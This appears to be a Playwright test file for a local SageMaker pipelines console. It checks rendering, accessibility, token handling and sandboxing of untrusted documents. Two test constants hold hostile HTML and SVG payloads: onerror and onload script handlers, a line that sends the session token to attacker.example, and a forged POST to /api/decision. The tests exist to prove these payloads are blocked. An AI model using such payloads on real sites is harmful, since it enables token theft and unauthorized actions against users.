"""The page in Chromium without AWS: what it draws, and what hostile documents and pages can do to it."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Route, expect

from console.page.documents import Document
from console.page.pipelines import graph
from tests.browser import SCHEMES, VIEWS, Watch, serious_violations

ARN = "arn:aws:sagemaker:us-east-1:123456789012:pipeline/playground-accessibility/execution/"


def executions(count: int, first: int = 0, token: str | None = None) -> dict:
    listed = [
        {
            "arn": f"{ARN}{number:012}",
            "id": f"{number:012}",
            "name": "",
            "status": "Succeeded",
            "started": None,
            "reason": "",
        }
        for number in range(first, first + count)
    ]
    return {"executions": listed, "token": token, "exists": True}


def wide_execution(steps: int) -> dict:
    """An execution in layers of five, each step of which needs two of the layer before."""
    written = []
    for number in range(steps):
        layer, place = divmod(number, 5)
        needs = [f"Step{5 * (layer - 1) + (place + shift) % 5}" for shift in (0, 1)] if layer else []
        arguments = {"Inputs": [{"Get": f"Steps.{name}.Outputs"} for name in needs]}
        written.append({"Name": f"Step{number}", "Type": "Processing", "Arguments": arguments})
    ran = [{"StepName": step["Name"], "StepStatus": "Succeeded"} for step in written]
    about = {"arn": ARN, "id": "0", "pipeline": "", "name": "", "description": "", "status": "Succeeded", "reason": ""}
    times: dict[str, Any] = {"started": None, "changed": None, "retryable": False, "parameters": {}}
    return about | times | graph({"Steps": written}, ran)


def answer(route: Route, content: dict) -> None:
    route.fulfill(status=200, content_type="application/json", body=json.dumps(content))


def test_two_hundred_executions_and_a_hundred_steps_are_drawn_each_time_anew(browser, page):
    listed, older, execution = executions(200, token="older"), executions(30, 190), wide_execution(100)
    with browser.new_context(viewport={"width": 1280, "height": 900}) as context:
        tab = context.new_page()
        watch = Watch(tab)
        tab.route("**/api/executions?*", lambda route: answer(route, older if "token" in route.request.url else listed))
        tab.route("**/api/execution?*", lambda route: answer(route, execution))
        tab.route("**/api/overview", lambda route: answer(route, {"stages": [], "waiting": [], "alarms": []}))
        tab.goto(page.address)
        tab.wait_for_selector(".flow", state="attached")
        for _ in range(2):
            tab.evaluate("location.hash = '#/overview'")
            tab.wait_for_selector("h1:text('Overview')")
            tab.evaluate("location.hash = '#/pipeline'")
            tab.wait_for_function(
                """() => document.querySelectorAll('.node').length === 100
                    && document.querySelectorAll('.executions li').length === 200"""
            )
        tab.click("text=Older executions")
        expect(tab.locator(".executions li")).to_have_count(220)  # each once
        expect(tab.locator("text=Older executions")).to_have_count(0)
        assert watch.complaints == []
        assert watch.hosts == {f"127.0.0.1:{page.port}"}


EVIL = f"""<!DOCTYPE html><title>evil</title><p id=p>harmless</p>
<img src=x onerror="steal()"><script>
function steal() {{
  document.getElementById('p').textContent = 'ran';
  try {{ parent.document.title = 'ran'; }} catch (e) {{}}
  try {{ top.location = 'https://attacker.example/' + parent.sessionStorage.token; }} catch (e) {{}}
  fetch('/api/decision', {{method: 'POST', body: '{{}}'}});
}}
steal();</script><a href="{ARN}" target=_top>x</a>""".encode()
EVIL_PLOT = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="document.title = parent.document.title = 'ran'">
<text id="p">harmless</text><title>evil</title>
<script>document.getElementById('p').textContent = 'ran'; fetch('/api/decision', {method: 'POST'});</script></svg>"""


@pytest.mark.parametrize("framed", [True, False])
@pytest.mark.parametrize(("name", "content"), [("report.html", EVIL), ("plot.svg", EVIL_PLOT)])
def test_report_and_plot_with_a_script_run_nothing(browser, page, framed, name, content):
    with browser.new_context() as context:
        tab = context.new_page()
        calls = []
        tab.on("request", lambda request: calls.append(request.url) if "/api/decision" in request.url else None)
        tab.goto(page.address)
        path = page.tickets.issue(Document.of(name, content))
        if framed:
            tab.evaluate(
                """path => {
                    const frame = document.createElement('iframe');
                    frame.src = path;
                    document.body.append(frame);
                }""",
                path,
            )
            frame = tab.wait_for_selector("iframe").content_frame()
        else:  # somebody opens it in a tab of its own
            tab.goto(f"{page.origin}{path}")
            frame = tab.main_frame
        frame.wait_for_selector("#p", state="attached")
        tab.wait_for_timeout(300)
        assert frame.text_content("#p") == "harmless"
        assert tab.title() == ("Overview · Playgrounds" if framed else "evil")
        assert calls == []


@contextmanager
def hostile_site(target: str) -> Iterator[str]:
    """Serve a page that tries what it can against a target, and yield its address."""
    content = Path(__file__).with_name("hostile.html").read_bytes()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *arguments: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}/#{quote(target)}"
        finally:
            server.shutdown()
            thread.join()


def test_hostile_page_in_another_tab_can_do_nothing(browser, page):
    with browser.new_context() as context, hostile_site(page.origin) as site:
        context.new_page().goto(page.address)  # the user's own tab, with the token
        tab = context.new_page()
        tab.goto(site)
        tab.wait_for_function("() => document.title.startsWith('{')")
        seen = json.loads(tab.title())
        attempts = ("call", "blind call", "script", "socket", "window")
        # The frame holds the browser's own refusal.
        assert seen == dict.fromkeys(attempts, "refused") | {"frame": "closed"}


def test_page_without_a_token_says_where_to_get_it(browser, page):
    with browser.new_context() as context:
        tab = context.new_page()
        tab.goto(page.origin)
        assert "Open the whole address" in tab.wait_for_selector("[role=alert]").inner_text()


def test_token_leaves_the_address_bar_and_survives_a_reload(browser, page):
    with browser.new_context() as context:
        tab = context.new_page()
        tab.goto(page.address)
        tab.wait_for_selector(".about")
        assert "token" not in tab.url
        tab.reload()
        tab.wait_for_selector(".about")
        assert context.cookies() == []


def test_keyboard_reaches_content_and_views(browser, page):
    with browser.new_context() as context:
        tab = context.new_page()
        tab.goto(page.address)
        tab.wait_for_selector(".about")
        tab.keyboard.press("Tab")
        assert tab.evaluate("document.activeElement.textContent") == "Skip to the content"
        tab.keyboard.press("Enter")
        assert tab.evaluate("document.activeElement.tagName") == "MAIN"
        tab.focus("nav a")
        for _ in range(3):
            tab.keyboard.press("Tab")
        tab.keyboard.press("Enter")
        expect(tab.locator("h1")).to_have_text("Model registry")
        assert tab.evaluate("document.activeElement.tagName") == "MAIN"


def test_every_view_says_that_aws_does_not_answer(browser, page):
    with browser.new_context() as context:
        tab = context.new_page()
        tab.goto(page.address)
        for view in VIEWS:
            tab.click(f"nav a[href='#/{view}']")
            text = tab.locator(".stage .reason" if view == "overview" else "[role=alert]").first
            expect(text).to_contain_text("is local_aws up?")
            for scheme in SCHEMES:
                tab.emulate_media(color_scheme=scheme, reduced_motion="reduce")
                assert serious_violations(tab) == [], (view, scheme)
